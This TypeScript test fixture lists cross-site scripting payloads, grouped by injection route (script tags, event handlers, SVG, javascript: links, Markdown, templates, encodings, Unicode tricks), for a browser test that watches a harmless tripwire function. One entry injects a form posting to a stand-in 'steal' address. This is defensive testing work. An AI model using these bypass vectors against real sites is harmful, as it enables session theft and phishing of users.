/**
 * What somebody might write into a text in the hope that a page runs it. Whatever runs calls `KPXSS`, which the browser
 * test sets as its tripwire. Written for this product, a few for each way in; nothing in it does harm.
 */
export interface Payload {
  /** The way in. */
  readonly way: string;
  readonly text: string;
}

/** The picture that some payloads name: it has to be there (`storeCorpusPicture`). */
export const CORPUS_PICTURE = 'abcdefghijklmnopqrstuvwx-640x480';

const WAYS: Readonly<Record<string, readonly string[]>> = {
  'a script element': [
    '<script>KPXSS()</script>',
    '<ScRiPt >KPXSS()</sCrIpT >',
    '<script src="data:text/javascript,KPXSS()"></script>',
    '<script type="module">KPXSS()</script>',
    '<scr<script>ipt>KPXSS()</scr</script>ipt>',
    '</title></textarea></style></noscript></script><script>KPXSS()</script>',
    '<script\n>KPXSS()\n</script\n>',
  ],
  'an event handler': [
    '<img src=x onerror=KPXSS()>',
    '<img src="x" onerror="KPXSS()" alt="',
    '<body onload=KPXSS()>',
    '<details open ontoggle=KPXSS()>x</details>',
    '<input autofocus onfocus=KPXSS()>',
    '<video><source onerror=KPXSS()></video>',
    '<div style="animation:a 1s" onanimationstart=KPXSS()>x</div>',
    '<img/src=x/onerror=KPXSS()//',
  ],
  'svg and math': [
    '<svg onload=KPXSS()>',
    '<svg><script>KPXSS()</script></svg>',
    '<svg><animate onbegin=KPXSS() attributeName=x dur=1s>',
    '<svg><foreignObject><img src=x onerror=KPXSS()></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=KPXSS()></style></mglyph></table></mtext></math>',
    '<svg><style><!--</style><img src=x onerror=KPXSS()>--></svg>',
  ],
  'an address': [
    'javascript:KPXSS()',
    'JaVaScRiPt:KPXSS()//https://example.org',
    '<a href="javascript:KPXSS()">x</a>',
    '<a href="jav&#x09;ascript:KPXSS()">x</a>',
    '<iframe src="javascript:KPXSS()"></iframe>',
    '<iframe srcdoc="<script>parent.KPXSS()</script>"></iframe>',
    '<object data="data:text/html,<script>KPXSS()</script>"></object>',
    '<form action="javascript:KPXSS()"><button>x</button></form>',
    '<base href="javascript:KPXSS()//">',
    '<meta http-equiv="refresh" content="0;url=javascript:KPXSS()">',
  ],
  Markdown: [
    '[x](javascript:KPXSS())',
    '[x](JAVASCRIPT&colon;KPXSS())',
    '[x](https://example.org/"onmouseover="KPXSS())',
    '[x](https://example.org "t\\" onmouseover=\\"KPXSS()")',
    '![x](javascript:KPXSS())',
    '![x" onerror="KPXSS()](x)',
    `![" onerror="KPXSS()" x="](media:${CORPUS_PICTURE})`,
    `![x](media:${CORPUS_PICTURE}" onerror="KPXSS())`,
    '<javascript:KPXSS()>',
    '[x]\n\n[x]: javascript:KPXSS()',
    '\n\n| <img src=x onerror=KPXSS()> |\n|:--:|\n| <script>KPXSS()</script> |\n\n',
    '\n\n    <script>KPXSS()</script>\n\n```html\n<script>KPXSS()</script>\n```\n\n',
    '*<b*onmouseover=KPXSS()>* ~<img src=x onerror=KPXSS()>~ a^<svg/onload=KPXSS()>^',
    '`<script>KPXSS()</script>`',
  ],
  'a template': [
    '<%= KPXSS() %>',
    '<%- "<script>KPXSS()</script>" %>',
    '%><script>KPXSS()</script><%',
    `\${KPXSS()}`,
    '{{constructor.constructor("KPXSS()")()}}',
    '#{KPXSS()}',
  ],
  'entities and encodings': [
    '&lt;script&gt;KPXSS()&lt;/script&gt;',
    '&#60;img src=x onerror=KPXSS()&#62;',
    '&amp;lt;script&amp;gt;KPXSS()&amp;lt;/script&amp;gt;',
    '%3Cscript%3EKPXSS()%3C/script%3E',
    '\\u003cscript\\u003eKPXSS()\\u003c/script\\u003e',
    '+ADw-script+AD4-KPXSS()+ADw-/script+AD4-',
  ],
  'a way out of an attribute or an element': [
    '"><script>KPXSS()</script>',
    "'><script>KPXSS()</script>",
    '" autofocus onfocus="KPXSS()" x="',
    "' autofocus onfocus='KPXSS()' x='",
    '` onmouseover=`KPXSS()`',
    '--><script>KPXSS()</script><!--',
    ']]><script>KPXSS()</script>',
    '</textarea><script>KPXSS()</script>',
    '</h1></legend></fieldset></form><form action="https://example.org/steal">',
  ],
  'strange characters': [
    '＜script＞KPXSS()＜/script＞',
    '‹img src=x onerror=KPXSS()› ﹤svg onload=KPXSS()﹥',
    '<img src=x onerror\u00a0=KPXSS()>',
    '\u202e>tpircs/<)(SSXPK>tpircs<',
    '<\u200bscript>KPXSS()</\u200bscript>',
    'ʺ onfocus=KPXSS() ʺ K\u212aPXSS <ſcript>KPXSS()</ſcript>',
  ],
};

export const XSS: readonly Payload[] = Object.entries(WAYS).flatMap(([way, texts]) =>
  texts.map((text) => ({ way, text })),
);
